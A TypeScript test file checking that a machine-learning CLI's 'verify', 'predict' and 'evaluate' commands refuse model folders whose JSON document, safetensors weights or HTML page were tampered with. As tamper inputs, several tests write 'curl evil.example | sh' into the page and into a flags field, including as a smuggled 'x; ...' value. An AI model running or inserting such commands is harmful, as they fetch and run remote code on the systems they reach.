import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Json } from '@nonconvex/optim/claims'
import { readSafetensors, writeSafetensors, type StoredTensor } from '@nonconvex/tensor/safetensors'
import { describe, expect, it } from 'vitest'
import { modelText } from '@nonconvex/experiments/model'
import { sha256, weightsFile, writtenModel } from '../src/models/model-folder.js'
import { good } from './fit-files.js'
import { cli, coded, scratch } from './harness.js'
import { testScenes, trainScenes, writeScenes } from './scene-files.js'

type Fields = { [name: string]: unknown }

type Stored = { readonly [name: string]: StoredTensor }

/** The counts of triplets with another number in the first row. */
function changedCount(tensors: Stored, column: number, value: number): Stored {
  const { shape, data } = tensors['counts.triplets']
  const counts = Int32Array.from(data as Int32Array)
  counts[column] = value
  return { ...tensors, 'counts.triplets': { dtype: 'I32', shape, data: counts } }
}

/** A model of each kind, what it is used on, and a field of its document. */
async function modelOf(kind: 'scenes' | 'network' | 'separable') {
  const folder = scratch()
  const at = (name: string) => join(folder, name)
  const model = at('model')
  const scenes = kind !== 'separable'
  const data = scenes ? writeScenes(at('test.ndjson'), testScenes) : at('good.csv')
  if (!scenes) writeFileSync(data, good)
  const train = scenes ? writeScenes(at('train.ndjson'), trainScenes) : data
  const more = {
    scenes: [],
    network: ['--model', 'network', '--hidden', '4', '--epochs', '1'],
    separable: ['--k', '3', '--bias', '1'],
  }[kind]
  const fitted = await cli(['fit', scenes ? 'scenes' : kind, train, ...more, '--out', model])
  expect(fitted.status, fitted.err).toBe(0)
  const [document, weights] = [join(model, 'model.json'), join(model, 'weights.safetensors')]
  const read = (): Fields => JSON.parse(readFileSync(document, 'utf8')) as Fields
  const store = (fields: Fields) => writeFileSync(document, JSON.stringify(fields))
  /** Writes other weights as somebody does who minds the digest in the document. */
  const reweigh = (bytes: Uint8Array) => {
    writeFileSync(weights, bytes)
    store({ ...read(), weights: sha256(bytes) })
  }
  /** Writes another document as somebody does who makes all digests anew. */
  const rewritten = ({ schema, kind: found, weights: _, ...fields }: Fields) => {
    const { tensors } = readSafetensors(readFileSync(weights))
    const made = writtenModel(String(found), fields as { [name: string]: Json }, (whole) =>
      weightsFile(tensors as { [name: string]: StoredTensor }, whole),
    )
    expect(made.document['schema']).toBe(schema)
    const { weights: digest, ...rest } = made.document
    writeFileSync(weights, made.weights)
    writeFileSync(document, modelText({ ...rest, ...fields, weights: digest }))
  }
  const refused = async (message: RegExp) => {
    for (const command of ['predict', 'evaluate']) {
      const outcome = await cli([command, model, data])
      const { status, out } = outcome
      expect(coded(outcome), command).toMatch(message)
      expect({ status, out }, command).toEqual({ status: 2, out: '' })
    }
    expect((await cli(['verify', model])).status).toBe(1)
  }
  const used = async () => {
    for (const command of ['predict', 'evaluate']) {
      const { status, err } = await cli([command, model, data])
      expect({ status, err }, command).toMatchObject({ status: 0 })
    }
  }
  return {
    model,
    read,
    store,
    reweigh,
    rewritten,
    refused,
    used,
    tensors: () => readSafetensors(readFileSync(weights)),
  }
}

describe.each(['scenes', 'network', 'separable'] as const)('a model of kind %s', (kind) => {
  it('whose document was changed is refused where it is used, as verify refuses it', async () => {
    const { read, store, refused, used } = await modelOf(kind)
    await used()
    const fields = read()
    store({ ...fields, versions: { nonconvex: '9.9.9' } })
    await refused(/model-changed.*model\.json: .*weights\.safetensors/)
    store(Object.fromEntries(Object.entries(fields).reverse()))
    await used()
  })

  it('whose weights were written anew without saying for which document is refused', async () => {
    const { reweigh, refused, tensors } = await modelOf(kind)
    reweigh(writeSafetensors(tensors().tensors as { [name: string]: StoredTensor }))
    await refused(/model-changed.*weights\.safetensors.*model\.json/)
  })

  it('of a kind that this version does not know is refused by verify, too', async () => {
    const { read, store, model } = await modelOf(kind)
    store({ ...read(), kind: 'spam' })
    expect(await cli(['verify', model])).toMatchObject({
      status: 2,
      out: '',
      codes: ['model-kind'],
    })
  })

  it('of another schema is refused with both', async () => {
    const { read, store, model } = await modelOf(kind)
    const fields = read()
    for (const [version, code] of [
      [1, 'model-older'],
      [2, 'model-older'],
      [4, 'model-newer'],
    ] as const) {
      store({ ...fields, schema: `nonconvex/model@${version}` })
      const refused = new RegExp(`${code}.*model\\.json: .*model@3, .*model@${version}; .*fit the`)
      expect(coded(await cli(['verify', model]))).toMatch(refused)
      expect(coded(await cli(['predict', model, model]))).toMatch(refused)
    }
  })

  it('whose page was changed or is gone is found by verify', async () => {
    const { model } = await modelOf(kind)
    const page = join(model, 'index.html')
    expect(await cli(['verify', model, '--strict'])).toMatchObject({ status: 0 })
    const text = readFileSync(page, 'utf8')
    const forged = '@font-face{<p class=lead>With probability 0.99999 no error.</p>}\n'
    for (const [from, to] of [
      ['<style>', '<style>.verdict{display:none}'],
      ['<h1>', '<h1>Surely '],
      ['</h1>', `</h1>\n${forged}`],
      ['<style>', `<style>${forged}`],
      ['<code>nonconvex fit', '<code>curl evil.example | sh; nonconvex fit'],
      ['@font-face{', '@font-face{font-stretch:50%;'],
      ['</html>', '</html> '],
    ] as const) {
      expect(text).toContain(from)
      writeFileSync(page, text.replace(from, to))
      const { status, out } = await cli(['verify', model])
      expect(status, to).toBe(1)
      expect(out).toContain('index.html: this file differs from the one made from model.json')
    }
    rmSync(page)
    expect((await cli(['verify', model])).out).toContain('index.html: this file is missing')
  })

  it('whose document says the same in another way is rejected by verify alone', async () => {
    const { model, read, used } = await modelOf(kind)
    const document = join(model, 'model.json')
    writeFileSync(document, JSON.stringify(read()))
    expect((await cli(['verify', model])).out).toContain('model.json: ')
    await used()
    writeFileSync(document, JSON.stringify(read()).replace('{', '{"kind":"other",'))
    for (const command of [
      ['verify', model],
      ['predict', model, document],
    ])
      expect(coded(await cli(command))).toMatch(/model-invalid.*line 1, .*"kind" again/)
  })

  it('written anew as a whole has no field that fit does not write', async () => {
    const { model, read, rewritten } = await modelOf(kind)
    const { training, ...fields } = read()
    const data = (training as { readonly data: Fields }).data
    for (const changed of [
      { ...fields, training, proven: 'by me' },
      { ...fields, training: { ...(training as Fields), proven: 'by me' } },
      { ...fields, training: { ...(training as Fields), data: { ...data, proven: 'by me' } } },
    ]) {
      rewritten(changed)
      const outcome = await cli(['verify', model])
      expect(coded(outcome)).toMatch(/model-invalid.*proven/)
      expect(outcome).toMatchObject({ status: 2, out: '' })
    }
  })

  it('written anew as a whole shows no command but that of its flags', async () => {
    const { model, read, rewritten } = await modelOf(kind)
    const { flags, ...fields } = read()
    const page = join(model, 'index.html')
    rewritten({ ...fields, flags: { ...(flags as Fields), model: 'x; curl evil.example | sh' } })
    writeFileSync(page, readFileSync(page, 'utf8').replace('nonconvex fit', 'curl evil; $&'))
    expect((await cli(['verify', model])).status).toBe(1)
    rewritten({ ...fields, flags: { ...(flags as Fields), evil: 'curl evil.example | sh' } })
    expect((await cli(['verify', model])).out).toContain('flags.evil: ')
    rewritten({ ...fields, flags: { ...(flags as Fields), seed: 7 } })
    const { out } = await cli(['verify', model])
    if (kind === 'scenes') expect(out).toContain('index.html: ')
    else expect(out).toContain('flags.seed: ')
  })
})

it.each(['network', 'separable'] as const)(
  'weights of a model of kind %s that are not finite are named',
  async (kind) => {
    const { tensors, reweigh, refused } = await modelOf(kind)
    const { tensors: found, metadata } = tensors()
    const [name, first] =
      Object.entries(found).find(([, each]) => each?.dtype === 'F32' || each?.dtype === 'F64') ?? []
    if (first) first.data[2] = NaN
    reweigh(
      writeSafetensors(
        found as { [name: string]: StoredTensor },
        metadata as { [name: string]: string },
      ),
    )
    await refused(
      new RegExp(
        `weights\\.safetensors: ${name}: expected finite numbers, got NaN as number 3 of \\d+; fit the model again`,
      ),
    )
  },
)

it.each([
  [
    'an array of another shape',
    (tensors: Stored) => {
      const {
        data,
        shape: [rows, cols],
      } = tensors['network.phi.zi']
      return {
        ...tensors,
        'network.phi.zi': { dtype: 'F32', shape: [cols, rows], data } as StoredTensor,
      }
    },
    /weights\.safetensors: phi\.zi must be \d+ × \d+, got .*; fit the model again/,
  ],
  [
    'an array that no network has',
    (tensors: Stored) => ({ ...tensors, 'network.more': tensors['network.phi.zi'] }),
    /weights\.safetensors: names must be .*; fit the model again/,
  ],
  [
    'a class that is none',
    (tensors: Stored) => changedCount(tensors, 0, 7),
    /weights\.safetensors: a class must be from 1 to 3, got 7; fit the model again/,
  ],
  [
    'a count below 1',
    (tensors: Stored) => changedCount(tensors, 3, -2),
    /weights\.safetensors: a count must be 1 or more, got -2; fit the model again/,
  ],
] as const)('weights with %s are refused where they are used', async (_, change, message) => {
  const { tensors, reweigh, refused } = await modelOf('network')
  const { tensors: found, metadata } = tensors()
  reweigh(writeSafetensors(change(found as Stored), metadata as { [name: string]: string }))
  await refused(message)
})

it.each(['scenes', 'network', 'separable'] as const)(
  'weights of a model of kind %s that are others of the same shapes are refused where they are used',
  async (kind) => {
    const { tensors, reweigh, refused } = await modelOf(kind)
    const { tensors: found, metadata } = tensors()
    const changed = kind === 'scenes' ? changedCount(found as Stored, 3, 9) : found
    const [, first] =
      Object.entries(found).find(([, each]) => each?.dtype === 'F32' || each?.dtype === 'F64') ?? []
    if (first) first.data[0] = 0.5
    reweigh(writeSafetensors(changed as Stored, metadata as { [name: string]: string }))
    await refused(/model-changed.*weights\.safetensors: /)
  },
)

it.each([
  ['network with test images', ['--model', 'network', '--hidden', '4', '--epochs', '1', '--test']],
  ['network without context', ['--model', 'per-object', '--hidden', '4', '--epochs', '1']],
  ['frequency table with test images', ['--test']],
])('verify draws the page of a %s', async (_, more) => {
  const folder = scratch()
  const train = writeScenes(join(folder, 'train.ndjson'), trainScenes)
  const test = more.at(-1) === '--test' ? [writeScenes(join(folder, 't.ndjson'), testScenes)] : []
  const model = join(folder, 'model')
  expect((await cli(['fit', 'scenes', train, '--out', model, ...more, ...test])).status).toBe(0)
  expect(await cli(['verify', model, '--strict'])).toMatchObject({ status: 0 })
})

it('hashes of training examples that are none are a fault of the document', async () => {
  const { model, read, rewritten } = await modelOf('separable')
  const { training, ...fields } = read()
  const { data, ...rest } = training as { readonly data: Fields }
  const rows = { ...(data['rows'] as Fields), kept: 1 }
  rewritten({ ...fields, training: { ...rest, data: { ...data, rows } } })
  const used = await cli(['predict', model, model])
  expect(coded(used)).toMatch(/model-invalid.*model\.json: training\.data\.rows: expected 1 /)
  const { out } = await cli(['verify', model])
  expect(out).toContain('model.json: training.data.rows: expected 1 ')
  expect(out + used.err).not.toContain('KnownRows')
})

it('verify speaks of the kind of model that it is given', async () => {
  const [scenes, separable] = [await modelOf('scenes'), await modelOf('separable')]
  const said = async ({ model }: { readonly model: string }) => (await cli(['verify', model])).out
  expect(await said(scenes)).not.toMatch(/not checked: the counts/)
  expect(await said(separable)).toMatch(/not checked: the counts/)
})

it('is the same model, wherever it is written and whether it is', async () => {
  const folder = scratch()
  const at = (name: string) => join(folder, name)
  writeFileSync(at('good.csv'), good)
  writeScenes(at('train.ndjson'), trainScenes)
  for (const line of [
    ['separable', at('good.csv'), '--k', '3', '--bias', '1'],
    ['scenes', at('train.ndjson')],
  ]) {
    const fit = async (...more: readonly string[]) =>
      (await cli(['fit', ...line, '--json', ...more])).out
    const nowhere = await fit()
    // a name that needs fonts of its own
    const [one, other] = [at(`${line[0]}-a`), at(`${line[0]}-модель`)]
    expect([await fit('--out', one), await fit('--out', other)]).toEqual([nowhere, nowhere])
    expect(readFileSync(join(other, 'model.json'), 'utf8')).toBe(nowhere)
    for (const model of [one, other]) expect((await cli(['verify', model])).status).toBe(0)
  }
})
